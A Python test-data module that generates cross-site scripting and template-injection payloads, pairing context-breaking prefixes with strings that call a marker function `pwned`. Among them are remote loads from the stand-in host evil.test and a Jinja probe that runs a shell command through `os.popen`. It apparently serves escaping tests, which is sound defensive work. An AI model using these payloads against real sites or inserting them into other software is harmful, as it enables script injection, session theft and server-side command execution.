"""Texts that would run as a script wherever one is not escaped; `pwned` is what they call."""

from __future__ import annotations

import random
from collections.abc import Sequence

SEED = 20_240_806

# What gets out of the place that a text stands in: an attribute, a comment, a script, a template.
WAYS_OUT = (
    *('', '"', "'", '">', "'>", '" ', "' ", '`', '-->', ']]>', '</title>', '</textarea>'),
    *('</script>', '</style>', '</option></select>', '</noscript>', '</pre>', '</svg>', '\\"'),
    *(
        '";',
        "';",
        '*/',
        '}}',
        '%}',
        '&quot;',
        '&#34;>',
        '&gt;',
        '\u2028',
        '\x1b[2J',
        '\u202e',
        '＂＞',
    ),
)
ACTS = (
    '<script>pwned(1)</script>',
    '<ScRiPt>pwned(1)</sCrIpT >',
    '<script src=//evil.test/a.js></script>',
    '<script/x>pwned(1)</script>',
    '<scr<script>ipt>pwned(1)</script>',
    '<img src=x onerror=pwned(1)>',
    '<img/src=`x`onerror=pwned(1)>',
    '<img src="x"\tonerror="pwned(1)">',
    '<img src=//evil.test/a.png>',
    '<svg onload=pwned(1)>',
    '<svg/onload=pwned&#40;1&#41;>',
    '<svg><script>pwned(1)</script></svg>',
    '<svg><animate onbegin=pwned(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:pwned(1)"><text y=20>x</text></a>',
    '<math><mtext><table><mglyph><style><img src onerror=pwned(1)>',
    '<iframe srcdoc="<script>parent.pwned(1)</script>">',
    '<iframe src="javascript:parent.pwned(1)">',
    '<object data="javascript:pwned(1)">',
    '<embed src=//evil.test/a.swf>',
    '<body onload=pwned(1)>',
    '<details open ontoggle=pwned(1)>x',
    '<input autofocus onfocus=pwned(1)>',
    '<video><source onerror=pwned(1)>',
    '<a href="javascript:pwned(1)" autofocus>x</a>',
    '<form action=//evil.test><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<base href=//evil.test>',
    '<link rel=stylesheet href=//evil.test/a.css>',
    '<style>@import "//evil.test/a.css"</style>',
    '<template><img src=x onerror=pwned(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=pwned(1)>">',
    '<x-y style=animation-name:none onanimationstart=pwned(1)>',
    '<button popovertarget=p onclick=pwned(1)>x</button>',
    ' onmouseover=pwned(1) x=',
    ' autofocus onfocus=pwned(1) tabindex=0 x=',
    ' style=background:url(//evil.test/a) x=',
    'javascript:pwned(1)',
    'data:text/html,<script>opener.pwned(1)</script>',
    '{{7*7}}{{config}}',
    '{{cycler.__init__.__globals__.os.popen("id").read()}}',
    '{% raw %}{% endraw %}{%print(7*7)%}',
    '${7*7}#{7*7}<%= 7*7 %>',
    '{0.__class__} %(prompt)s %s {prompt}',
    '&lt;script&gt;pwned(1)&lt;/script&gt;',
    '&#x3c;img src=x onerror=pwned(1)&#x3e;',
    '\\u003cimg src=x onerror=pwned(1)\\u003e',
    '+ADw-script+AD4-pwned(1)+ADw-/script+AD4-',
    '＜script＞pwned(1)＜/script＞',
    '<!--><img src=x onerror=pwned(1)>',
    '<![CDATA[<img src=x onerror=pwned(1)>]]>',
    '<?xml-stylesheet href="//evil.test/a.xsl"?>',
    'кот 猫 🐈 العربية e\u0301 <b>bold</b> & "quotes"',
)


def payloads(count: int, seed: int = SEED) -> list[str]:
    """Give so many different texts, each on one line and short, the same ones for a seed."""
    every = list(dict.fromkeys(f'{out}{act}'.strip() for act in ACTS for out in WAYS_OUT))
    random.Random(seed).shuffle(every)
    if count > len(every):
        raise ValueError(f'there are {len(every)} only')
    return every[:count]


def joined(texts: Sequence[str], together: int) -> list[str]:
    """Write several into one, so many at a time."""
    return ['\n'.join(texts[at : at + together]) for at in range(0, len(texts), together)]
